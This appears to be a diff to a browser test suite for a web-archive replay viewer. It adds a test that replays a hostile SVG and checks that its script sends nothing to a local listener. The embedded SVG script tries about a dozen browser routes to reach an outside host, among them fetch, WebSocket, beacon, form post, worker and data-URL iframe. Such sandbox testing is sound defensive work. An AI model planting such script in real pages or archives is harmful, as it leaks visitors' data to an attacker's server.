@@ -19,7 +19,7 @@ from netra.doors.capture.running import captured
 from netra.doors.desk.viewing import replay
 from netra.evidence.capturing import archive
 from netra.evidence.models import Item
-from tests.doors.capture.sites import CHROMIUM, serving
+from tests.doors.capture.sites import CHROMIUM, beside, serving
 from tests.doors.desk import viewed
 from tests.doors.desk.printing import at_desk
 from tests.doors.desk.test_decrees_screen import seated
@@ -49,13 +49,46 @@ HOSTILE = """
 </script>
 """
 
+SENDING = """<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[
+const beside = "http://%(beside)s/", socket = "ws://%(beside)s/";
+const tag = "http://www.w3.org/1999/xhtml", root = document.documentElement;
+function put(name, said) {
+  return root.appendChild(Object.assign(document.createElementNS(tag, name), said));
+}
+const again = `fetch("${beside}").catch(() => 0); new WebSocket("${socket}");`;
+for (const way of [
+  () => fetch(beside, {mode: "no-cors"}).catch(() => 0),
+  () => [new WebSocket(socket), new parent.WebSocket(socket)],
+  () => navigator.sendBeacon(beside, "x"),
+  () => new EventSource(beside),
+  () => { new Image().src = beside; },
+  () => put("form", {action: beside, method: "post"}).submit(),
+  () => put("link", {rel: "prefetch", href: beside}),
+  () => new Worker(URL.createObjectURL(new Blob([again]))),
+  () => put("iframe", {src: `data:text/html,<script>${again}</` + "script>"}),
+  () => new (put("iframe", {}).contentWindow.WebSocket)(socket),
+  () => window.open(beside),
+]) { try { way(); } catch (error) { console.log(String(error)); } }
+setTimeout(() => root.setAttribute("data-tried", "1"), 1500);
+]]></script></svg>"""
+"""A drawing is replayed as it is, so its script meets the browser's own doors, not the player's."""
 
-def wacz(body: str) -> bytes:
-    """A web archive of one page, as our own capture writes it."""
+
+def wacz(body: str, drawing: str = "<svg/>") -> bytes:
+    """A web archive of one page and a drawing, as our own capture writes it."""
     out = io.BytesIO()
     page = f"<html><head><title>x</title></head><body><p>{WORDS}</p>{body}</body></html>"
-    received = archive.Received(
-        url=URL,
+    parts = [
+        received(URL, "text/html; charset=utf-8", page),
+        received("https://contoh.example/gambar.svg", "image/svg+xml", drawing),
+    ]
+    archive.write(out, parts, archive.Page(url=URL, at=AT, title="x"), software="a test")
+    return out.getvalue()
+
+
+def received(url: str, kind: str, body: str) -> archive.Received:
+    return archive.Received(
+        url=url,
         at=AT,
         address="192.0.2.1",
         method="GET",
@@ -63,11 +96,9 @@ def wacz(body: str) -> bytes:
         request_body=b"",
         status=200,
         reason="OK",
-        headers=[("Content-Type", "text/html; charset=utf-8")],
-        body=io.BytesIO(page.encode()),
+        headers=[("Content-Type", kind)],
+        body=io.BytesIO(body.encode()),
     )
-    archive.write(out, [received], archive.Page(url=URL, at=AT, title="x"), software="a test")
-    return out.getvalue()
 
 
 def made_by_the_peer(body: str) -> bytes:
@@ -179,6 +210,21 @@ def test_a_hostile_archive_reaches_neither_desk_nor_anybody(
 
 
 @pytest.mark.browser
+@pytest.mark.timeout(120)
+def test_a_hostile_archive_sends_nothing_out(browser: Browser, named: str, second: str) -> None:
+    context = browser.new_context(base_url=named)
+    page = context.new_page()
+    seated(page, named, "caseworker", make.REGENCY)
+    with beside() as neighbour:
+        sending = SENDING % {"beside": f"127.0.0.1:{neighbour.port}"}
+        item = archived(wacz("<iframe src=gambar.svg></iframe>", sending))
+        page.goto(named + viewed.where(item))
+        replayed(page, "svg[data-tried]")
+        assert neighbour.heard == []
+    context.close()
+
+
+@pytest.mark.browser
 def test_without_script_a_copy_is_offered(open_page: OpenPage, named: str, second: str) -> None:
     item = archived()
     page = open_page(script=False)
@@ -213,6 +259,7 @@ def test_the_viewer_origin_answers_nothing_else(ticket: str) -> None:
     assert "frame-ancestors http://testserver" in player["Content-Security-Policy"]
     assert player["Clear-Site-Data"] == '"storage"'
     assert client.get("/putar/alat/sw.js").status_code == 200
+    assert client.get("/putar/alat/player.js").status_code == 200
     assert client.get("/putar/alat/other.js").status_code == 404
 
 
